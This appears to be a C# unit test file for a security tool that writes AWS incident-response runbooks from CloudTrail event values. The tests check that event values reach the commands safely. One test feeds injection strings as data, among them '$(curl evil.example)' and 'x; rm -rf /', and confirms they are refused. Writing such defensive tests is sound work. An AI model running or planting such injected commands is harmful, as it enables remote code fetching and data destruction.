using System.Text.Json;
using System.Text.Json.Nodes;
using BedrockDefense.Alerts;
using BedrockDefense.Catalog;

namespace BedrockDefense.Tests.Alerts;

/// <summary>Tests runbooks with an event's values in them. No value can become part of a command that a shell would execute.</summary>
public sealed class RunbookTests
{
    [Fact]
    public void The_values_of_an_event_are_put_into_the_commands()
    {
        var text = Runbook.Of("bedrock-logging-deletion").For(Record("Developer", "111122223333")).Text;

        Assert.Contains("aws bedrock get-model-invocation-logging-configuration --region us-west-2\n", text, StringComparison.Ordinal);
        Assert.Contains("aws iam put-role-policy --role-name Developer ", text, StringComparison.Ordinal);
        Assert.Contains("AttributeValue=ASIAEXAMPLE1EXAMPLE1 \\\n  --start-time 2026-11-19T10:15:00Z", text, StringComparison.Ordinal);
        Assert.Contains(
            "Of this event: ACCOUNT 111122223333, REGION us-west-2, TIME 2026-11-20T10:15:00Z,",
            text,
            StringComparison.Ordinal
        );
        Assert.Contains("PERMISSION_SET_ARN", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("$(curl evil.example)")]
    [InlineData("x; rm -rf /")]
    [InlineData("--profile")]
    [InlineData("x\n```\n# Call this number")]
    [InlineData("\u202Egnirts")]
    public void What_is_not_of_its_form_stays_a_placeholder_and_is_shown_harmless(string role)
    {
        var runbook = Runbook.Of("bedrock-logging-deletion").For(Record(role, role));

        Assert.DoesNotContain(role, runbook.Text, StringComparison.Ordinal);
        Assert.Contains("--role-name ROLE ", runbook.Text, StringComparison.Ordinal);
        Assert.Equal(2, runbook.RefusedValues.Count);
        Assert.All(
            runbook.RefusedValues,
            sentence => Assert.DoesNotContain(sentence, character => char.IsControl(character) || character == '\u202E')
        );
    }

    [Fact]
    public void Every_detection_has_one_and_an_unknown_id_is_named_with_the_known_ones()
    {
        Assert.All(
            Detection.All,
            detection =>
                Assert.Contains(
                    "## Contain",
                    Runbook.Of(detection.Id).For(Record("Developer", "111122223333")).Text,
                    StringComparison.Ordinal
                )
        );
        var refused = Assert.Throws<InvalidInputException>(() => Runbook.Of("logging-deleted"));
        Assert.StartsWith(
            "there is no runbook \"logging-deleted\"; the runbooks are account-log-policy-changed, ",
            refused.Message,
            StringComparison.Ordinal
        );
    }

    [Fact]
    public void A_record_without_any_value_leaves_all_placeholders() =>
        Assert.Contains(
            "--region REGION",
            Runbook.Of("bedrock-logging-deletion").For(JsonSerializer.SerializeToElement(new JsonObject { ["userIdentity"] = null })).Text,
            StringComparison.Ordinal
        );

    private static JsonElement Record(string role, string account) =>
        JsonSerializer.SerializeToElement(
            new JsonObject
            {
                ["recipientAccountId"] = account,
                ["awsRegion"] = "us-west-2",
                ["eventTime"] = "2026-11-20T10:15:00Z",
                ["eventID"] = "00000000-0000-4000-8000-000000000001",
                ["userIdentity"] = new JsonObject
                {
                    ["accessKeyId"] = "ASIAEXAMPLE1EXAMPLE1",
                    ["sessionContext"] = new JsonObject { ["sessionIssuer"] = new JsonObject { ["userName"] = role } },
                },
            }
        );
}
